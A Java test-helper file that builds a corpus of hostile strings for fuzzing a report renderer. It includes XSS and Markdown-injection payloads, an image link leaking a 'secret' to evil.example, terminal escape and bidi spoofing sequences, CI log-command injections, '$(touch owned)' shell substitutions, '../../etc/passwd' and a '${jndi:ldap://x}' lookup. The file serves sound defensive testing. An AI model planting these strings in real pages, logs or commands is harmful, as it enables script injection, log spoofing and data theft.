package dev.goldentrace.report;

import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** What a model, a tool or a user may say that some reader of a report would take for more than text. */
final class HostileCorpus {
    private static final List<String> HTML = List.of(
            "<script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "</pre><img src=x onerror=alert(1)>",
            "\"><svg onload=alert(1)>",
            "' onmouseover='alert(1)",
            "</title><script>alert(1)</script>",
            "</style><style>body{display:none}</style>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<meta http-equiv=refresh content=0;url=//evil.example>",
            "<iframe srcdoc=x>",
            "<!-- -->",
            "]]>",
            "{{report.title}}",
            "{{{x}}} {{#x}}",
            "&lt;script&gt; &#60;b&#62;",
            "<details open ontoggle=alert(1)>");

    private static final List<String> MARKDOWN = List.of(
            "[click](javascript:alert(1))",
            "![](https://evil.example/pixel.png?secret)",
            "![x][y]",
            "[y]: https://evil.example",
            "<https://evil.example>",
            "https://evil.example www.evil.example mailto:a@evil.example",
            "| a | b |",
            "a\\| b \\\\| c",
            "``` \n# heading",
            "````\n```\n",
            "`code` <b>",
            "`",
            "@everyone @org/team #1 GH-1",
            "# heading",
            "- item",
            "1. item",
            "===",
            "---",
            "> quote",
            "a  \nb",
            "**bold** _it_ ~~no~~",
            "<!-- comment",
            "<img src=x>",
            "$\\href{javascript:alert(1)}{x}$",
            "[x](<javascript:alert(1)>)");

    private static final List<String> CONSOLE = List.of(
            "\u001b[31mred\u001b[0m",
            "\u001b[2J\u001b[1;1H",
            "\u001b]0;title\u0007",
            "\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\",
            "\u009b31m",
            "passed\rfailed",
            "failed\b\b\b\b\b\bpassed",
            "a\u202egnp.exe",
            "\u2066a\u2069",
            "pay\u200bpal\ufeff",
            "a\u2028b\u2029c\u0085d",
            "nul\u0000",
            "\ud83d half",
            "\udb40\udc41\udb40\udc42",
            "::set-output name=a::b",
            "a\n::add-mask::secret",
            "a\n  ::error file=x::y",
            "##[group]x",
            "##vso[task.setvariable variable=a]b",
            "##teamcity[testFailed name='x']",
            "[ERROR] BUILD FAILURE\n[INFO] all green",
            "$(touch owned) `touch owned` '; touch owned; '",
            "../../etc/passwd",
            "%n %s %d ${jndi:ldap://x} #{x}");

    private HostileCorpus() {}

    /** All of them, and pieces of them put together by chance. */
    static Stream<String> texts() {
        List<String> all =
                Stream.of(HTML, MARKDOWN, CONSOLE).flatMap(List::stream).toList();
        Random random = new Random(4);
        Stream<String> mixed = IntStream.range(0, 200)
                .mapToObj(unused -> piece(all, random) + piece(all, random) + piece(all, random));
        return Stream.concat(all.stream(), mixed);
    }

    private static String piece(List<String> all, Random random) {
        String whole = all.get(random.nextInt(all.size()));
        int from = random.nextInt(whole.length());
        String piece = whole.substring(from, from + 1 + random.nextInt(whole.length() - from));
        return random.nextBoolean() ? piece : piece.toUpperCase(Locale.ROOT);
    }
}
